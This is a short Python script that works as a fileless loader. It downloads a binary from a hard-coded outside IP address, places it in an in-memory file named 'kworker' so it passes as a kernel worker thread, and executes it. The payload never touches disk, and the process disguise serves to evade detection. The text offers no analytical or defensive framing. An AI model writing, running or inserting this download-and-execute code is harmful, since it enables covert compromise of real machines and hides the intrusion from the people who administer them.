import os
import urllib.request

data = urllib.request.urlopen("http://5.42.92.100/agent").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, data)
os.execv(f"/proc/self/fd/{fd}", ["kworker"])
